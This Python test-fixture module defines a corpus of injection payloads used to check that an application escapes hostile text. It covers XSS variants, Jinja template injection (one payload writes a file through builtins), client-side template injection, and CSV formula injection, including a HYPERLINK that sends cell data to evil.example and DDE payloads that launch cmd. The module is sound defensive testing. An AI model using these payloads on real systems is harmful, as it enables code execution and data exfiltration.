"""The hostile-text corpus: each payload, where it is planted, and how we would notice it ran.

A payload that executes in the browser sets ``window.__pwned_<id>`` (or opens a dialog); a
server-side template payload that is evaluated either writes ``JINJA_MARKER_FILE`` or turns
into its ``evaluated`` text. Tests check the marker never appears and the payload text is
shown literally. ``tests/hostile/make_xss_corpus.py`` turns this table into the articles under
``tests/hostile/xss/`` and ``manifest.json``; a test keeps the three in sync.
"""

from __future__ import annotations

from dataclasses import dataclass

JINJA_MARKER_FILE = "/tmp/claim_atlas_pwned_jinja"

# Where a payload is planted. Front-matter fields reach title/outlet/url/author of every claim of
# the article; "claimant" puts it where an attribution names the speaker; "place" next to or
# inside a place mention; "body" elsewhere in a claim sentence (so it is in the quote);
# "filename" is the name of an uploaded file (planted at test time, not committed).
SLOTS = ("title", "outlet", "url", "author", "claimant", "place", "body", "filename")


@dataclass(frozen=True)
class Payload:
    id: int
    text: str
    family: str  # html | url | jinja | client-template | csv
    slot: str  # one of SLOTS
    note: str
    evaluated: str | None = None  # text that would appear if a template evaluated it

    @property
    def marker(self) -> str:
        """The global a successful script payload would set."""
        return f"__pwned_{self.id}"


def _p(i: int, text: str, family: str, slot: str, note: str, evaluated: str | None = None):
    return Payload(i, text.replace("{N}", str(i)), family, slot, note, evaluated)


PAYLOADS: tuple[Payload, ...] = (
    # --- script tags and event handlers -------------------------------------------------------
    _p(1, "<script>window.__pwned_{N}=1</script>", "html", "title", "plain script tag"),
    _p(2, '<img src=x onerror="window.__pwned_{N}=1">', "html", "outlet", "onerror handler"),
    _p(3, '<svg onload="window.__pwned_{N}=1">', "html", "author", "svg onload"),
    _p(4, "<svg><script>window.__pwned_{N}=1</script></svg>", "html", "claimant", "svg script"),
    _p(5, "<img src=x onerror=window.__pwned_{N}=1>", "html", "claimant", "unquoted onerror"),
    _p(6, "<body onload=window.__pwned_{N}=1>", "html", "body", "body onload"),
    _p(7, '<details open ontoggle="window.__pwned_{N}=1">', "html", "place", "fires alone"),
    _p(8, "<input autofocus onfocus=window.__pwned_{N}=1>", "html", "body", "autofocus onfocus"),
    _p(9, '<video><source onerror="window.__pwned_{N}=1"></video>', "html", "body", "media err"),
    _p(10, "<img src=x onerror=alert(10)>", "html", "claimant", "fires a dialog"),
    _p(
        11,
        '<iframe srcdoc="<script>parent.__pwned_{N}=1</script>"></iframe>',
        "html",
        "body",
        "srcdoc iframe reaching its parent",
    ),
    _p(12, "<marquee onstart=window.__pwned_{N}=1>x</marquee>", "html", "place", "marquee"),
    _p(
        13,
        '<div onmouseover="window.__pwned_{N}=1" style="position:fixed;inset:0">hover</div>',
        "html",
        "body",
        "full-page hover trap",
    ),
    # --- breaking out of an attribute, a string, a script or a container ---------------------
    _p(14, '"><script>window.__pwned_{N}=1</script>', "html", "title", "attribute breakout"),
    _p(15, "'><img src=x onerror=window.__pwned_{N}=1>", "html", "outlet", "single-quote breakout"),
    _p(
        16,
        "</script><script>window.__pwned_{N}=1</script>",
        "html",
        "claimant",
        "closes an inline script (JSON embedded in <script>)",
    ),
    _p(17, "</textarea><img src=x onerror=window.__pwned_{N}=1>", "html", "body", "textarea"),
    _p(18, "</title><svg onload=window.__pwned_{N}=1>", "html", "title", "closes <title>"),
    _p(19, '";window.__pwned_{N}=1;//', "html", "claimant", "JS string breakout"),
    _p(20, "\u2028window.__pwned_{N}=1//\u2029", "html", "body", "JS line separators"),
    # --- broken and nested tags, comments, mXSS ----------------------------------------------
    _p(
        21,
        "<scr<script>ipt>window.__pwned_{N}=1</scr</script>ipt>",
        "html",
        "body",
        "nested script tags (naive strip leaves a script)",
    ),
    _p(22, "<<img src=x onerror=window.__pwned_{N}=1>>", "html", "place", "doubled brackets"),
    _p(
        23,
        '<!--<img src="--><img src=x onerror=window.__pwned_{N}=1>">',
        "html",
        "body",
        "comment confusion",
    ),
    _p(
        24,
        "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned_{N}=1>",
        "html",
        "body",
        "mutation XSS",
    ),
    _p(25, "<img src=x onerror=window.__pwned_{N}=1", "html", "claimant", "unterminated tag"),
    # --- entity tricks -----------------------------------------------------------------------
    _p(
        26,
        "&lt;img src=x onerror=window.__pwned_{N}=1&gt;",
        "html",
        "body",
        "escaped once: decoding then innerHTML would run it",
    ),
    _p(
        27,
        "&#60;script&#62;window.__pwned_{N}=1&#60;/script&#62;",
        "html",
        "author",
        "numeric entities",
    ),
    _p(
        28,
        "<img src=x onerror=&#119;indow.__pwned_{N}=1>",
        "html",
        "body",
        "entity inside a handler",
    ),
    _p(
        29,
        "\uff1cscript\uff1ewindow.__pwned_{N}=1\uff1c/script\uff1e",
        "html",
        "body",
        "fullwidth brackets (NFKC would make them real)",
    ),
    # --- URLs --------------------------------------------------------------------------------
    _p(30, "javascript:window.__pwned_{N}=1", "url", "url", "javascript: URL"),
    _p(31, "JaVaScRiPt:window.__pwned_{N}=1", "url", "url", "mixed-case scheme"),
    _p(32, " \tjavascript:window.__pwned_{N}=1", "url", "url", "leading whitespace"),
    _p(33, "data:text/html,<script>window.__pwned_{N}=1</script>", "url", "url", "data: URL"),
    _p(
        34,
        'https://example.org/a"><img src=x onerror=window.__pwned_{N}=1>',
        "url",
        "url",
        "http URL breaking out of href",
    ),
    _p(
        35,
        '<a href="javascript:window.__pwned_{N}=1">read more</a>',
        "html",
        "body",
        "javascript: link in text",
    ),
    _p(
        36,
        '<svg><a xlink:href="javascript:window.__pwned_{N}=1"><text>x</text></a></svg>',
        "html",
        "place",
        "svg xlink",
    ),
    # --- server-side templates (folium/branca compile popup text with Jinja) -----------------
    _p(37, "{{ 7*7 }}", "jinja", "claimant", "arithmetic", evaluated="49"),
    _p(38, "{% raw %}", "jinja", "body", "unbalanced block: crashes a template compile"),
    _p(39, "{{ config }}", "jinja", "title", "config object"),
    _p(
        40,
        "{{ lipsum.__globals__.__builtins__.open('" + JINJA_MARKER_FILE + "','w').write('x') }}",
        "jinja",
        "body",
        "writes a file when evaluated",
    ),
    _p(
        41,
        "{% for i in range(3) %}LOOP{{ i }}{% endfor %}",
        "jinja",
        "outlet",
        "loop",
        evaluated="LOOP0LOOP1LOOP2",
    ),
    _p(42, "{{ this.__class__.__name__ }}", "jinja", "place", "template context object"),
    _p(43, "{# hidden #}", "jinja", "claimant", "comment eats text", evaluated=""),
    _p(44, "{{ 1337*1001 }}", "jinja", "author", "arithmetic", evaluated="1338337"),
    _p(45, "{%", "jinja", "title", "half a tag"),
    # --- client-side templates ---------------------------------------------------------------
    _p(46, "${window.__pwned_{N}=1}", "client-template", "body", "JS template literal"),
    _p(
        47,
        "{{constructor.constructor('window.__pwned_{N}=1')()}}",
        "client-template",
        "body",
        "Angular/Vue expression",
    ),
    # --- spreadsheet formulas (CSV downloads) ------------------------------------------------
    _p(48, '=HYPERLINK("https://evil.example/?d="&A1,"Source")', "csv", "title", "formula"),
    _p(49, "+cmd|' /C calc'!A0", "csv", "outlet", "DDE"),
    _p(50, "@SUM(1+1)*cmd|' /C calc'!A0", "csv", "author", "at-sign formula"),
    _p(51, "-2+3+cmd|' /C calc'!A0", "csv", "claimant", "minus formula"),
    # --- a valid https URL that must be linked, with its attribute-breaking characters escaped
    _p(
        54,
        'https://example.org/report?id=7&x="><svg/onload=window.__pwned_{N}=1>',
        "url",
        "url",
        "http(s) link whose query breaks out of href if unescaped",
    ),
    # --- the file name itself (an upload's name is chosen by whoever sends it) ----------------
    _p(52, "<img src=x onerror=window.__pwned_{N}=1>.md", "html", "filename", "upload name"),
    _p(53, "{{ 7*6 }}.md", "jinja", "filename", "upload name", evaluated="42.md"),
)

SCRIPT_MARKERS: tuple[str, ...] = tuple(p.marker for p in PAYLOADS if f"__pwned_{p.id}" in p.text)


def by_id(payload_id: int) -> Payload:
    for p in PAYLOADS:
        if p.id == payload_id:
            return p
    raise KeyError(payload_id)
